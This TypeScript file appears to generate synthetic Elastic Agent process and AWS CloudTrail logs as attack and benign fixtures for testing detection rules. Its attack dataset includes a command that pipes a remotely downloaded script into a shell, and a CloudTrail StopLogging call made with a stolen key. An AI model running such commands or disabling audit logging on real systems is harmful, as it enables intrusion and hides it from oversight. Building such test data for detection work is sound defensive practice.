/**
 * ECS NDJSON as Elastic Agent ships it: Elastic Defend process events from a Linux host
 * (event.category process, event.type start, host.os.type linux) and AWS CloudTrail through the
 * AWS integration (event.dataset aws.cloudtrail, event.action = eventName, aws.cloudtrail.*).
 * Attack: on lnx-web-01 the web server user pipes a downloaded script into a shell; in AWS a stolen
 * key stops the CloudTrail trail. Benign: the same sources on an ordinary day.
 */
import { Rng } from '../prng.ts';
import { SEED } from '../manifest.ts';
import { DAY, type OtherDataset } from './model.ts';

const iso = (t: number): string => new Date(Math.round(t * 1000)).toISOString();
const HOST = { name: 'lnx-web-01', hostname: 'lnx-web-01', os: { type: 'linux', family: 'debian', name: 'Ubuntu', version: '24.04' }, id: '4f1c2d3e5a6b7c8d9e0f1a2b3c4d5e6f' };

function proc(rng: Rng, t: number, exe: string, args: string[], parent: { exe: string; args: string[] }, user: string): string {
  return JSON.stringify({
    '@timestamp': iso(t), agent: { type: 'endpoint', version: '8.15.2' }, ecs: { version: '8.11.0' }, host: HOST,
    event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process', module: 'endpoint', id: rng.hex(24) },
    process: {
      entity_id: rng.hex(32), pid: rng.int(1000, 60000), executable: exe, name: exe.split('/').pop(), args, args_count: args.length, command_line: args.join(' '), working_directory: '/var/www',
      parent: { entity_id: rng.hex(32), pid: rng.int(500, 999), executable: parent.exe, name: parent.exe.split('/').pop(), args: parent.args, command_line: parent.args.join(' ') },
    },
    user: { name: user, id: user === 'root' ? '0' : '33' },
  });
}

function trail(rng: Rng, t: number, eventName: string, source: string, user: string, params: Record<string, unknown>, errorCode?: string): string {
  return JSON.stringify({
    '@timestamp': iso(t), ecs: { version: '8.11.0' }, cloud: { provider: 'aws', region: 'eu-west-1', account: { id: '111122223333' } },
    event: { kind: 'event', dataset: 'aws.cloudtrail', module: 'aws', provider: source, action: eventName, outcome: errorCode ? 'failure' : 'success', id: rng.guid().toLowerCase() },
    source: { address: '198.51.100.23', ip: '198.51.100.23' }, user: { name: user, id: `AIDA${rng.hex(16).toUpperCase()}` }, user_agent: { original: 'aws-cli/2.17.40 Python/3.11.9 Linux/6.8.0' },
    aws: { cloudtrail: { event_type: 'AwsApiCall', event_version: '1.09', user_identity: { type: 'IAMUser', arn: `arn:aws:iam::111122223333:user/${user}`, access_key_id: `AKIA${rng.hex(16).toUpperCase()}` }, request_parameters: JSON.stringify(params), flattened: { request_parameters: params }, ...(errorCode ? { error_code: errorCode } : {}) } },
  });
}

const APACHE = { exe: '/usr/sbin/apache2', args: ['/usr/sbin/apache2', '-k', 'start'] };

export function ecsAttack(): OtherDataset {
  const rng = new Rng(SEED, 'dataset:ecs_linux_aws_attack');
  const lines = [
    proc(rng, DAY + 100, '/usr/bin/ls', ['ls', '-la'], { exe: '/usr/bin/bash', args: ['bash'] }, 'root'),
    proc(rng, DAY + 900, '/usr/bin/sh', ['sh', '-c', 'curl -fsSL http://203.0.113.77/x.sh | sh'], APACHE, 'www-data'),
    proc(rng, DAY + 900.2, '/usr/bin/curl', ['curl', '-fsSL', 'http://203.0.113.77/x.sh'], { exe: '/usr/bin/sh', args: ['sh', '-c', 'curl -fsSL http://203.0.113.77/x.sh | sh'] }, 'www-data'),
    trail(rng, DAY + 1000, 'DescribeTrails', 'cloudtrail.amazonaws.com', 'ci-deploy', {}),
    trail(rng, DAY + 1010, 'StopLogging', 'cloudtrail.amazonaws.com', 'ci-deploy', { name: 'org-trail' }),
    trail(rng, DAY + 1020, 'ListBuckets', 's3.amazonaws.com', 'ci-deploy', {}),
  ];
  return {
    name: 'ecs_linux_aws_attack', kind: 'attack', techniques: ['T1059.004', 'T1562.008'], hosts: ['lnx-web-01', 'aws:111122223333'],
    description: 'ECS NDJSON from Elastic Agent: Elastic Defend process starts on lnx-web-01 where apache2 runs `sh -c "curl -fsSL http://203.0.113.77/x.sh | sh"`, and AWS CloudTrail (AWS integration) where the ci-deploy key calls StopLogging on org-trail. Expected alerts: Linux curl piped to shell 1; CloudTrail StopLogging 1.',
    source: 'scripts/datasets/other/ecs.ts', files: [{ name: 'events.ndjson', format: 'ndjson', lines, events: lines.length }],
  };
}

export function ecsBenign(): OtherDataset {
  const rng = new Rng(SEED, 'dataset:ecs_linux_aws_benign');
  const lines = [
    proc(rng, DAY + 5000, '/usr/bin/curl', ['curl', '-fsS', '-o', '/tmp/health.json', 'http://127.0.0.1/health'], { exe: '/usr/bin/bash', args: ['bash', '/opt/check.sh'] }, 'root'),
    proc(rng, DAY + 5010, '/usr/bin/sh', ['sh', '-c', 'logrotate /etc/logrotate.conf'], { exe: '/usr/sbin/cron', args: ['/usr/sbin/cron', '-f'] }, 'root'),
    trail(rng, DAY + 5100, 'StartLogging', 'cloudtrail.amazonaws.com', 'ci-deploy', { name: 'org-trail' }),
    trail(rng, DAY + 5110, 'StopLogging', 'cloudtrail.amazonaws.com', 'ci-deploy', { name: 'org-trail' }, 'AccessDenied'),
  ];
  return {
    name: 'ecs_linux_aws_benign', kind: 'benign', techniques: [], hosts: ['lnx-web-01', 'aws:111122223333'],
    description: 'ECS NDJSON from Elastic Agent on an ordinary day: curl writing a health check to a file, cron running logrotate through sh -c, CloudTrail StartLogging, and a StopLogging call that AWS denied (AccessDenied). Near misses. Expected alerts: none.',
    source: 'scripts/datasets/other/ecs.ts', files: [{ name: 'events.ndjson', format: 'ndjson', lines, events: lines.length }],
  };
}
